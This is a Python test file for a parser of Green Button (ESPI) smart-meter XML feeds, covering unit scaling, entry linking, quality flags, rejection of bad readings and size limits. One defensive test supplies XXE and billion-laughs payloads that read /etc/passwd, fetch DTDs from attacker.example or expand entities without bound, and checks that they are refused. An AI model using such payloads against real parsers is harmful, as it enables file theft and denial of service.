"""Green Button feeds, whole, odd and hostile."""

import pytest

from domain.grid.metering.formats.parsed import FileMapping, Limits
from domain.grid.metering.rules.flags import codes
from domain.kernel.errors import Invalid, TooLarge
from tests.grid.metering.formats.reading import ends, read, reasons

START = 1767589200  # 2026-01-05T05:00:00Z
BASE = "https://utility.example/espi/1_1/resource/RetailCustomer/9/UsagePoint/METER-7"


def _entry(own: str, body: str, up: str = "", related: tuple[str, ...] = ()) -> str:
    links = "".join(f'<link rel="related" href="{href}"/>' for href in related)
    return f'<entry><link rel="self" href="{own}"/><link rel="up" href="{up}"/>{links}<content>{body}</content></entry>'


def _reading(start: int, value: object, duration: object = 900, quality: str = "") -> str:
    mark = f"<ReadingQuality><quality>{quality}</quality></ReadingQuality>" if quality else ""
    return (
        f"<IntervalReading>{mark}<timePeriod><duration>{duration}</duration><start>{start}</start></timePeriod>"
        f"<value>{value}</value></IntervalReading>"
    )


def _type(uom: int = 72, power: int = 0, flow: int = 1, accumulation: int = 4) -> str:
    return (
        f'<ReadingType xmlns="http://naesb.org/espi"><accumulationBehaviour>{accumulation}</accumulationBehaviour>'
        f"<flowDirection>{flow}</flowDirection><intervalLength>900</intervalLength>"
        f"<powerOfTenMultiplier>{power}</powerOfTenMultiplier><uom>{uom}</uom></ReadingType>"
    )


def _series(number: int, kind: str, *readings: str, base: str = BASE) -> list[str]:
    own = f"{base}/MeterReading/{number:02d}"
    block = f'<IntervalBlock xmlns="http://naesb.org/espi">{"".join(readings)}</IntervalBlock>'
    return [
        _entry(f"{own}/IntervalBlock/1", block, up=f"{own}/IntervalBlock"),
        _entry(
            own,
            '<MeterReading xmlns="http://naesb.org/espi"/>',
            up=f"{base}/MeterReading",
            related=(f"{own}/IntervalBlock", f"https://utility.example/ReadingType/{base[-1]}{number}"),
        ),
        _entry(f"https://utility.example/ReadingType/{base[-1]}{number}", kind),
    ]


def _point(base: str = BASE) -> str:
    return _entry(
        base,
        '<UsagePoint xmlns="http://naesb.org/espi"><ServiceCategory><kind>0</kind></ServiceCategory></UsagePoint>',
        related=(f"{base}/MeterReading",),
    )


def _feed(*entries: str, prologue: str = '<?xml version="1.0" encoding="UTF-8"?>') -> str:
    return f'{prologue}<feed xmlns="http://www.w3.org/2005/Atom">{"".join(entries)}</feed>'


def test_readings_carry_their_end_and_are_scaled_to_kilowatt_hours() -> None:
    feed = _feed(_point(), *_series(1, _type(power=-3), _reading(START, 250_000), _reading(START + 900, 1000)))
    parsed = read(feed)
    assert (parsed.format, list(parsed.meters)) == ("espi", ["METER-7"])
    assert ends(parsed) == ["2026-01-05T05:15:00", "2026-01-05T05:30:00"]
    assert parsed.kwh.tolist() == [0.25, 0.001]
    assert not len(parsed.rejects)


def test_entries_may_stand_in_any_order_and_belong_by_their_links() -> None:
    other = BASE[:-1] + "8"
    entries = [
        *_series(1, _type(), _reading(START, 1000)),
        *_series(1, _type(power=3), _reading(START, 2), base=other),
        _point(other),
        _point(),
    ]
    for feed in (_feed(*entries), _feed(*reversed(entries))):
        parsed = read(feed)
        found = {parsed.meters[int(m)]: kwh for m, kwh in zip(parsed.meter, parsed.kwh, strict=True)}
        assert found == {"METER-7": 1.0, "METER-8": 2.0}


def test_reverse_flow_counts_against_forward_flow() -> None:
    series = [*_series(1, _type(flow=1), _reading(START, 500)), *_series(2, _type(flow=19), _reading(START, 2000))]
    assert read(_feed(_point(), *series)).kwh.tolist() == [-1.5]


def test_other_quantities_are_left_aside_and_counted() -> None:
    series = [
        *_series(1, _type(), _reading(START, 500)),
        *_series(2, _type(uom=38), _reading(START, 1), _reading(START + 900, 1)),
        *_series(3, _type(accumulation=3), _reading(START, 1)),
    ]
    parsed = read(_feed(_point(), *series))
    assert (len(parsed), parsed.notes) == (1, {"other_quantities": 3})


def test_quality_codes_become_flags() -> None:
    marks = ["0", "7", "8", "9", "10", "12", "17", "19"]
    readings = [_reading(START + 900 * i, 1, quality=mark) for i, mark in enumerate(marks)]
    parsed = read(_feed(_point(), *_series(1, _type(), *readings)))
    assert [codes(int(f)) for f in parsed.flags] == ["A", "AX", "E", "E", "A", "E", "A", "A"]


def test_the_meter_can_be_named_from_outside_or_by_its_delivery_point() -> None:
    feed = _feed(_point(), *_series(1, _type(), _reading(START, 1)))
    assert list(read(feed, FileMapping(meter_id="M1")).meters) == ["M1"]
    named = feed.replace(
        "<ServiceCategory>", "<ServiceDeliveryPoint><mRID>ESI-1</mRID></ServiceDeliveryPoint><ServiceCategory>"
    )
    assert list(read(named).meters) == ["ESI-1"]


def test_bad_readings_are_rejected_by_their_number() -> None:
    readings = [
        _reading(START, 1),
        _reading("soon", 1),  # type: ignore[arg-type]
        _reading(START, "1.5"),
        _reading(START, 1, duration=86400),
        _reading(5, 1),
        _reading(START, 10**15),
    ]
    parsed = read(_feed(_point(), *_series(1, _type(), *readings)))
    assert len(parsed) == 1
    assert [(row, column) for row, column, _ in reasons(parsed)] == [
        (2, "timePeriod.start"),
        (3, "value"),
        (4, "timePeriod.duration"),
        (5, "timePeriod.start"),
        (6, "value"),
    ]


def test_blocks_without_their_type_or_point_are_rejected() -> None:
    block, reading, kind = _series(1, _type(), _reading(START, 1))
    parsed = read(_feed(_point(), block, reading))
    assert [why for _, _, why in reasons(parsed)] == ["its ReadingType is not in the feed"]
    assert [why for _, _, why in reasons(read(_feed(block, reading, kind)))] == ["its UsagePoint is not in the feed"]


LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE feed [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE feed SYSTEM "http://attacker.example/evil.dtd">',
        f'<!DOCTYPE feed [<!ENTITY l0 "ha">{LAUGHS}]>',
        '<!DOCTYPE feed [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>',
        "<!DOCTYPE feed>",
    ],
)
def test_documents_with_a_dtd_are_refused_before_anything_is_expanded(doctype: str) -> None:
    feed = _feed(_point(), *_series(1, _type(), _reading(START, 1)), prologue='<?xml version="1.0"?>' + doctype)
    with pytest.raises(Invalid, match="DTD or an entity"):
        read(feed)


def test_half_cut_and_foreign_documents_are_refused() -> None:
    feed = _feed(_point(), *_series(1, _type(), _reading(START, 1)))
    with pytest.raises(Invalid, match="not a whole XML document"):
        read(feed[: len(feed) // 2])
    with pytest.raises(Invalid, match="no IntervalBlock"):
        read("<html><body>Sign in first</body></html>")
    with pytest.raises(Invalid, match="no IntervalBlock"):
        read(feed.replace("http://naesb.org/espi", "http://example.org/espi"))


def test_the_number_of_readings_is_limited() -> None:
    readings = [_reading(START + 900 * i, 1) for i in range(20)]
    with pytest.raises(TooLarge):
        read(_feed(_point(), *_series(1, _type(), *readings)), limits=Limits(max_rows=10))


def test_a_feed_in_utf_16_is_read() -> None:
    feed = _feed(_point(), *_series(1, _type(), _reading(START, 1)), prologue='<?xml version="1.0" encoding="UTF-16"?>')
    assert len(read(feed.encode("utf-16"))) == 1
